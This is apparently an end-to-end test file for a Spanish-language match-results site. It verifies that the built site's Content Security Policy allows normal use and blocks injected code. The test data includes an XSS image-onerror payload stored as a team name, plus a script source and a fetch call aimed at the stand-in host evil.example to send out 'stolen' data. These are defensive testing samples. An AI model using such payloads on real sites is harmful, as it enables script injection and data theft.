import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { chromium, type Browser, type Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import {
  startEmbeddedSupabase,
  type EmbeddedSupabase,
} from '../../supabase/embedded/startEmbeddedSupabase.ts';
import { paths } from '../../src/paths.ts';
import { chromiumArguments, findChromium } from '../support/chromium.ts';

// The site as `npm run build` makes it and a static host serves it: what the policy must let happen
// happens, and what it must stop is stopped.

const project = fileURLToPath(new URL('../../', import.meta.url));
const timeout = 120_000;

let supabase: EmbeddedSupabase;
let browser: Browser;
let folder: string;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'built-site-'));
  const vite = join(project, 'node_modules/vite/bin/vite.js');
  // Without the tests' own environment, which would make it another build.
  await promisify(execFile)(
    process.execPath,
    [vite, 'build', '--outDir', folder, '--emptyOutDir', '--logLevel', 'warn'],
    { cwd: project, env: { PATH: process.env['PATH'] ?? '' } },
  );
  supabase = await startEmbeddedSupabase();
  supabase.serveSite(folder);
  const executablePath = findChromium();
  browser = await chromium.launch({
    args: chromiumArguments,
    ...(executablePath === undefined ? {} : { executablePath }),
  });
}, timeout);

afterAll(async () => {
  await browser.close();
  await supabase.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A page and what its policy was asked to stop, over every navigation. */
async function openPage(): Promise<{ page: Page; violations: string[] }> {
  const page = await (await browser.newContext()).newPage();
  const violations: string[] = [];
  page.on('console', (message) => {
    const violation = /^violation: (.*)/.exec(message.text())?.[1];
    if (violation !== undefined) violations.push(violation);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) => {
      console.error(`violation: ${effectiveDirective} ${sample}`);
    });
  });
  return { page, violations };
}

const live = { team1: 'Los <b>Gruesos</b>', team2: '<img src=x onerror="document.title=1">' };

async function addResult(team1: string, team2: string) {
  await supabase.database.exclusive((postgres) =>
    postgres.query(
      `insert into public.results (team1, team2, score, date, category)
       values ($1, $2, '6-4, 6-3', '2026-11-20', 'Sexta Libre')`,
      [team1, team2],
    ),
  );
}

test('every page of the site is drawn without a violation', { timeout: timeout }, async () => {
  const { page, violations } = await openPage();
  const routes = [
    paths.home(),
    paths.about(),
    paths.categories(),
    paths.category('sexta-libre'),
    paths.results(),
    paths.upcoming(),
    paths.admin(),
    '/no-existe',
  ];
  for (const route of routes) {
    const response = await page.goto(supabase.url + route);
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    await page.locator('h1').first().waitFor();
    await page.waitForLoadState('networkidle');
  }
  expect(violations).toEqual([]);
});

test('signing in, a dialog and live rows need no exception', { timeout: timeout }, async () => {
  const { page, violations } = await openPage();
  await page.goto(supabase.url + paths.admin());
  await page.getByLabel('Correo Electrónico').fill(supabase.admin.email);
  await page.locator('input[type=password]').fill(supabase.admin.password);
  await page.getByRole('button', { name: 'Iniciar Sesión' }).click();
  await page.waitForURL(`${supabase.url}/`);
  await page.goto(supabase.url + paths.results());
  await page.getByRole('button', { name: 'Agregar Resultado' }).first().click();
  await page.getByRole('dialog').waitFor();
  await page.keyboard.press('Escape');
  await page.getByText('En vivo').first().waitFor();
  await addResult(live.team1, live.team2);
  await page.getByText(live.team2).first().waitFor();
  expect(await page.getByText(live.team1).first().textContent()).toContain(live.team1);
  expect(violations).toEqual([]);
});

test('what gets into the page in spite of all is stopped', { timeout: timeout }, async () => {
  const { page, violations } = await openPage();
  await page.goto(supabase.url + paths.about());
  await page.locator('h1').first().waitFor();
  const outcome = await page.evaluate(`(async () => {
    const refused = async (attack) => {
      try { await attack(); return false; } catch { return true; }
    };
    // The browser's debugger may evaluate text; what runs after a turn of the loop may not.
    await new Promise((resolve) => setTimeout(resolve));
    const script = document.createElement('script');
    const outcome = {
      markup: await refused(() => document.body.insertAdjacentHTML('beforeend', '<img src=x>')),
      innerHtml: await refused(() => { document.body.innerHTML = '<b>x</b>'; }),
      evaluation: await refused(() => eval('1')),
      scriptText: await refused(() => { script.text = 'window.hacked = 1'; }),
      scriptAddress: await refused(() => { script.src = 'https://evil.example/x.js'; }),
      worker: await refused(() => new Worker('/assets/x.js')),
      sending: await refused(() => fetch('https://evil.example/?stolen')),
      handler: await refused(() => document.body.setAttribute('onclick', 'window.hacked = 1')),
      policy: await refused(() => trustedTypes.createPolicy('mine', {})),
    };
    return { ...outcome, hacked: 'hacked' in window };
  })()`);
  expect(outcome).toEqual({
    markup: true,
    innerHtml: true,
    evaluation: true,
    scriptText: true,
    scriptAddress: true,
    worker: true,
    sending: true,
    handler: true,
    policy: true,
    hacked: false,
  });
  // And the two tests above would have been told.
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(8);
});
